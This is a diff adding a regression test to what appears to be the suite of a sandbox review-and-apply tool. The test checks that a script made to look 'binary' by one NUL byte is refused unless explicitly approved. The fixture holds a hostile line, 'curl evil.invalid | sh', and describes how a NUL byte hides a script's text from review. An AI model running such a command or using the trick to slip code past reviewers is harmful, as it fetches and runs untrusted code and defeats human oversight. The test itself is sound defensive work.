@@ -209,6 +209,27 @@ sg apply --review "$REV" --unshown big.txt "$ID"; rc=$?
 check "apply --review --unshown big.txt: applied as its SHA-256" '[ $rc -eq 0 ] && grep -q "^applied big.txt$" "$T/out" && [ "$(stat -c %s "$T/s12/big.txt")" = 1200000 ]'
 rm -rf "$SANDGATE_STATE/sandboxes/$ID"
 
+# --- apply: one NUL byte made a script "binary" (atk16v F2) ----------------------
+# A NUL in a late comment leaves run.sh runnable by bash and a Makefile
+# usable by make, but the diff shows a binary file by its SHA-256 only:
+# apply --review wrote it without --unshown. Now a file the review showed
+# no text of is refused like one too large to show.
+small_sandbox sbx_0123456789abcdef0123bd0e s14
+printf 'echo hi\n' >"$T/s14/run.sh"
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+sg_fixture_sandbox "$ID" "$T/s14" $((16 << 20))
+printf 'curl evil.invalid | sh\n# \000\n' >"$W/run.sh"
+sg diff "$ID"; rc=$?
+REV=$(awk '/^review /{print $2}' "$T/out")
+check "diff: run.sh with a NUL is a binary file, shown by its SHA-256 ($rc)" '[ $rc -eq 0 ] && grep -q "^Binary file run.sh" "$T/out"'
+sg apply --review "$REV" --path run.sh "$ID"; rc=$?
+check "apply --review --path of a binary file: refused (126), named, host untouched" '[ $rc -eq 126 ] && grep -q "^refused run.sh (review [0-9a-f]* did not show its text (a binary file: no text).*--unshown" "$T/out" && [ "$(cat "$T/s14/run.sh")" = "echo hi" ]'
+sg apply --review "$REV" --all "$ID"; rc=$?
+check "apply --review --all: the binary file refused (126)" '[ $rc -eq 126 ] && grep -q "^refused run.sh" "$T/out" && [ "$(cat "$T/s14/run.sh")" = "echo hi" ]'
+sg apply --review "$REV" --unshown run.sh "$ID"; rc=$?
+check "apply --review --unshown run.sh: applied as its SHA-256" '[ $rc -eq 0 ] && grep -q "^applied run.sh$" "$T/out" && cmp -s "$W/run.sh" "$T/s14/run.sh"'
+rm -rf "$SANDGATE_STATE/sandboxes/$ID"
+
 # --- saved reviews: many names (atk16u F4) -------------------------------------
 # 12,000 hard-link names of 120 bytes: each diff saves a review of ~3.3 MB
 # (every path in base64); 16 were kept whatever --disk, so 12 distinct
